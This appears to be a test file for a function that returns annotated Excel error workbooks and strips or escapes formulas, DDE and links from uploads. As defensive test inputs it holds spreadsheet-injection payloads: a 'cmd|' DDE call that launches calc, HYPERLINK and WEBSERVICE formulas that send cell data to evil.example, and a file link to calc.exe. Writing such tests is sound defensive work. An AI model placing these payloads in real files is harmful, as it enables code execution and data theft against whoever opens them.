import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { annotate } from './annotate';

/** The error workbook gives back the upload: its formula-like texts must come back marked as text (ADR 0062). */
describe('the error workbook', () => {
  it('marks every text starting with = + - @ as text, keeps the values, leaves numbers and plain text alone', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Electricity');
    ws.addRow(['=HYPERLINK("http://x","y")', '+1', '-2+3', '@SUM(A1)', 'plain', -3]);
    wb.addWorksheet('Other').addRow(['=cmd|"/c calc"!A0']);
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());

    const out = new ExcelJS.Workbook();
    await out.xlsx.load(
      (await annotate(
        bytes,
        [{ cell: 'Electricity!E1', field: 'Note', message: 'Wrong' }] as never,
        'en',
      )) as unknown as ExcelJS.Buffer,
    );
    const row = out.getWorksheet('Electricity')!.getRow(1);
    const cells = [1, 2, 3, 4, 5, 6].map((c) => row.getCell(c));
    expect(cells.map((c) => c.value)).toEqual(['=HYPERLINK("http://x","y")', '+1', '-2+3', '@SUM(A1)', 'plain', -3]);
    expect(cells.map((c) => c.numFmt ?? null)).toEqual(['@', '@', '@', '@', null, null]);
    expect(cells[4]!.note).toBe('Note: Wrong');
    expect(out.getWorksheet('Other')!.getCell('A1').numFmt).toBe('@');
  });

  it.each([
    ['hk', '地點', '此地點不在本年度的匯報範圍內。', '地點：此地點不在本年度的匯報範圍內。'],
    ['cn', '地点', '此地点不在本年度的报告范围内。', '地点：此地点不在本年度的报告范围内。'],
  ] as const)('notes a cell’s field and message as Chinese joins them (%s)', async (lang, field, message, note) => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('用水').addRow(['Shop']);
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
    const out = new ExcelJS.Workbook();
    await out.xlsx.load(
      (await annotate(bytes, [{ sheet: '用水', cell: '用水!A1', field, message }], lang)) as unknown as ExcelJS.Buffer,
    );
    expect(out.getWorksheet('用水')!.getCell('A1').note).toBe(note);
  });

  it('fills only the cells with an error red, though the upload’s cells share one style', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Electricity');
    const shared = { fill: { type: 'pattern', pattern: 'solid', fgColor: { argb: 'FFEEEEEE' } } } as const;
    ws.addRow([1, '=2', 3]);
    for (const c of ['A1', 'B1', 'C1']) ws.getCell(c).style = shared as Partial<ExcelJS.Style>;
    wb.addWorksheet('Water').addRow([4]);
    wb.getWorksheet('Water')!.getCell('A1').style = shared as Partial<ExcelJS.Style>;
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());

    const out = new ExcelJS.Workbook();
    await out.xlsx.load(
      (await annotate(
        bytes,
        [{ cell: 'Electricity!B1', message: 'Wrong' }] as never,
        'en',
      )) as unknown as ExcelJS.Buffer,
    );
    const argb = (sheet: string, ref: string) =>
      (out.getWorksheet(sheet)!.getCell(ref).fill as ExcelJS.FillPattern | undefined)?.fgColor?.argb;
    expect(argb('Electricity', 'B1')).toBe('FFFFC7CE');
    // The formula-like text alone takes the text format.
    const formats = ['A1', 'B1', 'C1'].map((c) => out.getWorksheet('Electricity')!.getCell(c).numFmt ?? null);
    expect(formats).toEqual([null, '@', null]);
    expect([argb('Electricity', 'A1'), argb('Electricity', 'C1'), argb('Water', 'A1')]).toEqual([
      'FFEEEEEE',
      'FFEEEEEE',
      'FFEEEEEE',
    ]);
  });
});

/**
 * Another user's upload comes back to whoever downloads its errors from the import history (ADR 0062, amended): its
 * formulas and links must not run or open there, and rich text that starts like a formula is text like any other.
 */
describe('the error workbook of a hostile upload', () => {
  it('gives formulas back as the results the import read (as text without one), links as their text', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('Electricity');
    ws.getCell('A1').value = { formula: 'HYPERLINK("http://evil.example/?"&B1,"Open")', result: 'Open' };
    ws.getCell('A2').value = { formula: "cmd|' /C calc'!A0", result: 12.5 };
    ws.getCell('A3').value = { formula: 'WEBSERVICE("http://evil.example/")' } as ExcelJS.CellFormulaValue;
    ws.getCell('A4').value = { formula: 'B1*2', result: 4, shareType: 'shared', ref: 'A4:A5' } as ExcelJS.CellValue;
    ws.getCell('A5').value = { sharedFormula: 'A4', result: 6 } as ExcelJS.CellValue;
    ws.getCell('A6').value = { text: 'Read me', hyperlink: 'file:///c:/windows/system32/calc.exe' };
    ws.getCell('A7').value = { richText: [{ text: '=HYPERLINK("http://x",' }, { text: '"y")', font: { bold: true } }] };
    ws.getCell('A8').value = { formula: '"=1+"&"1"', result: '=1+1' };
    ws.getCell('B1').value = 2;
    const bytes = new Uint8Array(await wb.xlsx.writeBuffer());

    const out = new ExcelJS.Workbook();
    await out.xlsx.load(
      (await annotate(
        bytes,
        [{ cell: 'Electricity!A3', message: 'Wrong' }] as never,
        'en',
      )) as unknown as ExcelJS.Buffer,
    );
    const sheet = out.getWorksheet('Electricity')!;
    const cell = (ref: string) => sheet.getCell(ref);
    expect(['A1', 'A2', 'A4', 'A5', 'A6', 'A8'].map((r) => cell(r).value)).toEqual([
      'Open',
      12.5,
      4,
      6,
      'Read me',
      '=1+1',
    ]);
    expect(cell('A3').value).toBe('=WEBSERVICE("http://evil.example/")');
    let formulas = 0;
    sheet.eachRow((row) => row.eachCell((c) => (formulas += c.formula || c.hyperlink ? 1 : 0)));
    expect(formulas).toBe(0);
    // Texts that start like a formula — a result, a formula without one, rich text — are marked as text.
    expect(['A3', 'A7', 'A8'].map((r) => cell(r).numFmt)).toEqual(['@', '@', '@']);
    expect(cell('A3').note).toBe('Wrong');
  });
});
